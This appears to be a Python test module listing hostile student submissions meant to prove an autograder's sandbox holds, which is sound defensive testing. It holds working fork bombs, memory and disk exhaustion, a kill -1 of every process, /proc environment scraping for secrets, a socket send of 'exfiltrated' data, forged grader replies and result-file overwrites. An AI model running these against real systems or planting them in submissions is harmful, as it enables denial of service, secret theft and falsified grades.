"""Hostile submissions: attacks on the grader, each a reference submission with one part swapped.

Every attack names what it tries, why it must fail, and what the grade must then be. It is
built like the mutants of ``graders.suite``: the reference modules, with one function replaced
(``kind="function"``) or code added at the end of one module (``kind="append"``, it runs at
import). Placeholders ``@@NAME@@`` are filled in when the submission is built (the course root,
the output folder, a port the test listens on, ...): a real attacker can find all of these
(``/proc``, guessing), so giving them away only makes the attacks stronger.

``python -m tests.hostile CLASS_DIR`` writes every attack as a submission folder (for timing a
class run by hand).
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from pathlib import Path

from graders.suite import reference_sources, replace_function

# A correct dot product, for attacks whose trick is elsewhere (they should keep full marks);
# indented like the attack sources it is glued to, which are dedented as a whole.
HONEST = '''
        def _honest(a, b):
            a = np.asarray(a)
            b = np.asarray(b)
            if a.ndim != 1 or b.ndim != 1 or a.shape[0] != b.shape[0]:
                raise ValueError("dot needs two 1-D vectors of the same length")
            return np.sum(a * b)
'''


@dataclass(frozen=True)
class Attack:
    name: str
    why: str                  # what it tries, and why it must not work
    source: str
    expect: str               # the attacked exercise's score: "zero", "full" or "less" (< max)
    says: tuple[str, ...] = ()  # one of these appears in the exercise's messages or output
    module: str = "dot_product"
    function: str = "dot"
    kind: str = "function"    # "function": replaces `function`; "append": runs at import
    contained_only: bool = False  # harmful or meaningless without containment: skipped then
    seconds: float = 25.0     # the submission's grading wall time must stay below this

    @property
    def id(self) -> str:
        return f"hostile-{self.name}"


def attack(name, why, source, expect, says=(), **kw) -> Attack:
    if isinstance(says, str):
        says = (says,)
    return Attack(name, " ".join(why.split()), textwrap.dedent(source).strip() + "\n", expect,
                  tuple(says), **kw)


ATTACKS = [
    # --- time ------------------------------------------------------------------------------------
    attack("infinite_loop", """Never returns. The per-call wall-clock limit kills the sandbox,
        the check fails with 'timed out after 2 s', the process is restarted for the next
        exercise.""", """
        def dot(a, b):
            while True:
                pass
        """, "zero", "timed out after 2 s"),
    attack("infinite_loop_at_import", """Hangs while the module is imported: importing counts
        against the time limit too.""", """
        while True:
            pass
        """, "zero", "importing the module timed out", kind="append"),
    attack("signal_pause", """Ignores SIGALRM and waits for a signal that never comes; a grader
        that relied on signals in the learner's process would wait forever.""", """
        import signal

        def dot(a, b):
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            signal.pause()
        """, "zero", "timed out after 2 s"),
    attack("signal_alarm", """Arms SIGALRM: it can only kill the learner's own session, which the
        grader reports as a crash.""", """
        import signal
        import time

        def dot(a, b):
            signal.alarm(1)
            time.sleep(10)
        """, "zero", "SIGALRM"),
    attack("slow_when_unobserved", """Correct and fast under pytest (the learner's own tests), but
        sleeps just under the time limit on every call when it is not being watched, to make
        grading a class take hours. The exercise's total time budget cuts it off.""", HONEST + """
        import os
        import time

        def dot(a, b):
            if "PYTEST_CURRENT_TEST" not in os.environ:
                time.sleep(1.8)
            return _honest(a, b)
        """, "zero", "time budget"),
    # --- memory, processes, files ----------------------------------------------------------------
    attack("memory_bomb", """Allocates memory in 64 MiB blocks until something breaks. RLIMIT_AS
        turns that into a MemoryError in the learner's process only: 'exceeded 1 GiB memory'.""",
        """
        def dot(a, b):
            blocks = []
            while True:
                blocks.append(np.empty(8 << 20))
        """, "zero", "exceeded 1 GiB memory"),
    attack("memory_bomb_touched", """Fills memory for real (every page written), which is slow:
        whichever comes first, the memory limit or the time limit, ends it.""", """
        def dot(a, b):
            blocks = []
            while True:
                blocks.append(bytearray(64 << 20))
        """, "zero", ("exceeded 1 GiB memory", "timed out after 2 s")),
    attack("one_gb_array", """Builds a 1 GiB numpy array, right at the memory limit: refused
        (memory), filled too slowly (time) or too large to send back; never the grader's problem.""",
        """
        def dot(a, b):
            return np.ones(1 << 27)
        """, "zero", ("exceeded 1 GiB memory", "timed out after 2 s", "returned more than 64 MB")),
    attack("two_gb_array", """Asks for a 2 GiB array: over the memory limit at once.""", """
        def dot(a, b):
            return np.ones(1 << 28)
        """, "zero", "exceeded 1 GiB memory"),
    attack("huge_array", """Returns an 800 MB array, under the memory limit but far over what a
        reply may carry: refused in the child before anything is sent.""", """
        def dot(a, b):
            return np.zeros(10**8)
        """, "zero", "returned more than 64 MB"),
    attack("deep_recursion", """Recursion through C (map/list), with the recursion limit raised:
        overflows the C stack and segfaults the session (or hits a limit), never the grader.""", """
        import sys

        def _down(n):
            return list(map(_down, [n + 1]))

        def dot(a, b):
            sys.setrecursionlimit(10**8)
            return _down(0)
        """, "zero", ("crashed", "exceeded 1 GiB memory", "timed out", "RecursionError")),
    attack("fork_storm", """Every process forks forever. RLIMIT_NPROC (per sandbox uid) bounds
        the storm, the time limit kills the sandbox, and the whole PID namespace goes with it.""",
        """
        import os
        import time

        def dot(a, b):
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.001)
        """, "zero", "timed out after 2 s", contained_only=True),
    attack("fill_the_disk", """Writes 8 MiB files into every writable place it can find: RLIMIT_FSIZE
        caps each file, the sandbox's /tmp is a 64 MiB tmpfs. Then answers correctly: a full
        disk of its own must not cost the grader anything.""", HONEST + """
        import os

        def dot(a, b):
            for folder in (".", "/tmp", "/dev/shm", os.environ.get("HOME", ".")):
                for i in range(20):
                    try:
                        with open(os.path.join(folder, f"fill-{os.getpid()}-{i}"), "wb") as f:
                            f.write(b"x" * (16 << 20))
                    except OSError:
                        break
            return _honest(a, b)
        """, "full", contained_only=True),  # without containment it would litter the host's /tmp
    # --- ending the process ----------------------------------------------------------------------
    attack("sys_exit_in_call", """sys.exit() inside a call: SystemExit is an exception like any
        other for the grader.""", """
        import sys

        def dot(a, b):
            sys.exit(0)
        """, "zero", "SystemExit"),
    attack("os_exit_in_call", """os._exit() inside a call: the session ends without a reply; the
        zygote reports the exit status and starts a new session for the next check.""", """
        import os

        def dot(a, b):
            os._exit(0)
        """, "zero", "ended the process"),
    attack("keyboard_interrupt_in_call", """KeyboardInterrupt from a call must not stop the
        grader (it would, in the grader's own process).""", """
        def dot(a, b):
            raise KeyboardInterrupt
        """, "zero", "KeyboardInterrupt"),
    attack("system_exit_at_import", """SystemExit while the module is imported.""", """
        raise SystemExit(3)
        """, "zero", "SystemExit", kind="append"),
    attack("os_exit_at_import", """os._exit() while the module is imported.""", """
        import os
        os._exit(0)
        """, "zero", "ended the process", kind="append"),
    attack("keyboard_interrupt_at_import", """KeyboardInterrupt while the module is imported.""",
           """
        raise KeyboardInterrupt
        """, "zero", "KeyboardInterrupt", kind="append"),
    attack("segfault_ctypes", """Dereferences NULL with ctypes: SIGSEGV kills the session only.""",
           """
        import ctypes

        def dot(a, b):
            return ctypes.string_at(0)
        """, "zero", "SIGSEGV"),
    attack("kill_the_supervisor", """Kills its parent (the zygote) and every process it may signal
        (kill -1). In the sandbox those are only its own processes. How many answers get out
        before the sandbox falls apart depends on scheduling, so that may not decide the grade:
        an exercise whose session killed its zygote scores zero, every time, and the sandbox is
        restarted for the next exercise. (Never run without containment: as root, kill -1 would
        take down the machine.)""", HONEST + """
        import os
        import signal

        def dot(a, b):
            os.kill(os.getppid(), signal.SIGKILL)
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            return _honest(a, b)
        """, "zero", "killed the process that runs it", contained_only=True),
    # --- the channel to the grader ---------------------------------------------------------------
    attack("close_std_streams", """Closes stdin, stdout and stderr. The reply channel is separate,
        so correct answers still arrive.""", HONEST + """
        import os
        import sys

        def dot(a, b):
            for fd in (0, 1, 2):
                try:
                    os.close(fd)
                except OSError:
                    pass
            sys.stdout = sys.stderr = None
            return _honest(a, b)
        """, "full"),
    attack("hijack_stdout", """Points stdout at the reply pipe (its number is in the worker's argv)
        and prints: the grader reads garbage, refuses it, and kills and restarts the learner
        process.""", """
        import json
        import os
        import sys

        def dot(a, b):
            reply_fd = json.loads(sys.argv[1])["fds"][1]
            os.dup2(reply_fd, 1)
            print("garbage that is not a frame", flush=True)
            return 0.0
        """, "zero", ("too large", "malformed", "did not", "not understand")),
    attack("forged_reply_frames", """Writes well-formed reply frames of its own (claiming 0.0) on
        the reply pipe before the real one. The grader reads them as plain data and judges them
        like any answer: forging frames cannot produce an answer the learner did not compute.""",
        HONEST + """
        import json
        import os
        import struct
        import sys

        def dot(a, b):
            reply_fd = json.loads(sys.argv[1])["fds"][1]
            head = json.dumps({"op": "value", "value": {"p": 0.0}, "note": "", "blobs": []}).encode()
            os.write(reply_fd, struct.pack(">I", len(head)) + head)
            return _honest(a, b)
        """, "less"),
    attack("print_fake_result", """Prints what looks like a perfect result (JSON and a summary
        line). Output is captured and shown, never parsed.""", """
        def dot(a, b):
            print('{"submission": "me", "score": 100, "max_score": 100}')
            print("dot_product     10/10   passed          all 4 checks passed")
            raise RuntimeError("no answer")
        """, "zero", "all 4 checks passed"),
    attack("output_flood", """Prints 200 MB per call. RLIMIT_FSIZE stops the flood at 8 MiB, the
        grader keeps the first 64 KiB per call; nothing stalls. The answers are correct.""",
        HONEST + """
        def dot(a, b):
            line = "spam " * 20000 + "\\n"
            try:
                for _ in range(2000):
                    print(line, end="")
            except OSError:
                pass
            return _honest(a, b)
        """, "full", "output cut at 64 KiB"),
    attack("terminal_escapes", """Raises with ANSI escape sequences and a lone surrogate in the
        message, to repaint the instructor's terminal or break the result file. Messages are
        cleaned before they are stored.""", """
        def dot(a, b):
            raise RuntimeError("\\x1b[2J\\x1b[32mdot_product 10/10 passed\\x1b[0m \\udcff")
        """, "zero", "dot_product 10/10 passed"),
    # --- the grader's files, other people's files ------------------------------------------------
    attack("fake_result_file", """Writes a perfect result where the grader will write the real one
        (the output folder, the class folder, its own folder). None of those exist in the
        sandbox.""", """
        import os

        def dot(a, b):
            fake = '{"submission": "hostile-fake_result_file", "score": 100, "max_score": 100}'
            wrote = []
            for folder in ("@@OUT@@", "@@CLASS@@", "@@CLASS@@/hostile-fake_result_file"):
                for name in ("hostile-fake_result_file.json", "gradebook.csv"):
                    try:
                        with open(os.path.join(folder, name), "w") as f:
                            f.write(fake)
                        wrote.append(os.path.join(folder, name))
                    except OSError:
                        pass
            raise RuntimeError(f"wrote {wrote}")
        """, "zero", contained_only=True),
    attack("daemon_rewrites_results", """At import, starts a daemon (double fork, new session,
        ignores SIGTERM/SIGHUP) that keeps rewriting the output folder for 20 s, after the grader
        has moved on. Killing the PID namespace takes it down; the output folder does not even
        exist in the sandbox.""", """
        import os
        import signal
        import time

        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                end = time.time() + 20
                while time.time() < end:
                    for name in os.listdir("@@OUT@@") if os.path.isdir("@@OUT@@") else []:
                        try:
                            with open(os.path.join("@@OUT@@", name), "w") as f:
                                f.write("HACKED")
                        except OSError:
                            pass
                    try:
                        with open("@@OUT@@/HACKED", "w") as f:
                            f.write("HACKED")
                    except OSError:
                        pass
                    time.sleep(0.1)
            os._exit(0)
        """, "full", kind="append", contained_only=True),
    attack("read_reference_from_disk", """Looks for the reference solution on disk (the course
        folder, the usual places) and, if found, answers with it. The course folder does not
        exist in the sandbox.""", """
        import os

        def dot(a, b):
            places = ["@@COURSE@@", "/work/main", os.path.expanduser("~"), "/proc/1/cwd", "..", "../.."]
            for place in places:
                path = os.path.join(place, "solutions", "dot_product.py")
                try:
                    code = open(path).read()
                except OSError:
                    continue
                scope = {}
                exec(code, scope)
                return scope["dot"](a, b)
            raise RuntimeError("no reference solution found")
        """, "zero", "no reference solution found", contained_only=True),
    attack("import_grader", """Imports the grader package to reuse its reference and checks. It is
        not importable in the sandbox (not on sys.path, its folder hidden, import hooks
        removed).""", """
        def dot(a, b):
            from graders.examples import reference_module
            from graders.manifest import find_course_root
            reference = reference_module(find_course_root() / "solutions", "dot_product")
            return getattr(reference, "d" + "ot")(a, b)
        """, "zero", "ModuleNotFoundError", contained_only=True),
    attack("rewrite_other_module", """Overwrites matmul.py in its own submission folder with a
        broken version at import, hoping to confuse the grader. The folder is read-only.""", """
        import os
        import sys

        for folder in sys.path[:1]:
            try:
                with open(os.path.join(folder, "matmul.py"), "w") as f:
                    f.write("def matmul(A, B):\\n    return 0\\n")
            except OSError:
                pass
        """, "full", kind="append", contained_only=True),
    attack("steal_secrets", """Looks for the instructor's secrets: its environment, and the
        environment of every process it can see. The environment is scrubbed, and other
        processes are invisible in its PID namespace.""", """
        import os

        def dot(a, b):
            found = [k for k in os.environ if "SECRET" in k]
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        if b"NNLA_TEST_SECRET" in open(f"/proc/{pid}/environ", "rb").read():
                            found.append(pid)
                    except OSError:
                        pass
            if found:
                return 0.0
            raise RuntimeError("no secrets found")
        """, "zero", "no secrets found", contained_only=True),
    attack("network", """Tries to reach a listener the test opened on the host's 127.0.0.1, a
        public address and DNS, then answers correctly. The sandbox has its own network
        namespace with only a loopback device: every attempt fails, and the listener sees
        nothing.""", HONEST + """
        import socket

        def dot(a, b):
            for address in (("127.0.0.1", @@PORT@@), ("1.1.1.1", 53)):
                try:
                    socket.create_connection(address, timeout=0.5).sendall(b"exfiltrated")
                except OSError:
                    pass
            try:
                socket.getaddrinfo("pypi.org", 443)
            except OSError:
                pass
            return _honest(a, b)
        """, "full", contained_only=True),
    # --- lying in the child ----------------------------------------------------------------------
    attack("monkeypatch_numpy", """Replaces numpy's comparison functions (allclose, isclose,
        array_equal, testing) with ones that always agree, then returns a wrong answer and
        changes its inputs. Comparisons happen in the grader's process, which is not touched.""",
        """
        import numpy.testing

        def dot(a, b):
            always = lambda *args, **kwargs: True
            np.allclose = np.array_equal = np.array_equiv = always
            np.isclose = lambda x, y, *args, **kwargs: np.ones(np.shape(x), dtype=bool)
            numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
            np.sum = lambda *args, **kwargs: 0.0
            a[...] = 1
            return 42.0
        """, "zero"),
    attack("monkeypatch_builtins", """Replaces builtins (abs, float, round, isinstance, len, type
        checks) with liars, then returns a wrong answer and changes its inputs. The grader does
        not share the learner's builtins.""", """
        import builtins

        def dot(a, b):
            builtins.abs = lambda x: 0
            builtins.round = lambda x, *n: 0
            builtins.isinstance = lambda obj, cls: True
            builtins.float = lambda *x: 0.0
            a[...] = 1
            return 42.0
        """, "zero"),
    attack("numpy_subclass_liar", """Returns a numpy array subclass whose __eq__, __float__,
        __array__ and friends all claim to be the right answer. Only the plain data of the
        array crosses the wire.""", """
        class Liar(np.ndarray):
            def __eq__(self, other):
                return True
            __ne__ = lambda self, other: False
            def __float__(self):
                return 0.0
            def __array__(self, *args, **kwargs):
                return np.asarray(0.0)

        def dot(a, b):
            a[...] = 1
            return np.asarray(42.0).view(Liar)
        """, "zero"),
    attack("lying_object", """Returns a plain object that says it equals anything and converts to
        whatever is asked.""", """
        class Anything:
            def __eq__(self, other):
                return True
            def __float__(self):
                return 42.0
            def __array__(self, *args, **kwargs):
                return np.asarray(42.0)

        def dot(a, b):
            a[...] = 1
            return Anything()
        """, "zero"),
    attack("misbehaving_conversions", """Returns an object whose __array__ raises, __float__
        loops forever and __len__ lies: converting it fails inside the learner's process, within
        the call's time limit.""", """
        class Broken:
            def __array__(self, *args, **kwargs):
                raise RuntimeError("no array for you")
            def __float__(self):
                while True:
                    pass
            def __len__(self):
                return -1
            def __eq__(self, other):
                raise SystemExit

        def dot(a, b):
            return Broken()
        """, "zero", ("could not be read", "timed out", "not a number")),
]


def build(dest: Path, course_root: Path, attack: Attack, values: dict[str, str]) -> Path:
    """The attack's submission folder: reference modules with the attack swapped in."""
    sources = reference_sources(course_root)
    code = attack.source
    for key, value in values.items():
        code = code.replace(f"@@{key}@@", str(value))
    if attack.kind == "function":
        sources[attack.module] = replace_function(sources[attack.module], attack.function, code)
    elif attack.kind == "append":
        sources[attack.module] = sources[attack.module] + "\n\n" + code
    else:
        raise ValueError(attack.kind)
    dest.mkdir(parents=True, exist_ok=True)
    for module, text in sources.items():
        (dest / f"{module}.py").write_text(text, encoding="utf-8")
    return dest


def build_class(class_dir: Path, course_root: Path, out_dir: Path, port: int = 9,
                attacks: list[Attack] | None = None) -> list[Path]:
    values = {"COURSE": course_root.resolve(), "OUT": out_dir.resolve(),
              "CLASS": class_dir.resolve(), "PORT": port}
    return [build(class_dir / a.id, course_root, a, values) for a in (attacks or ATTACKS)]
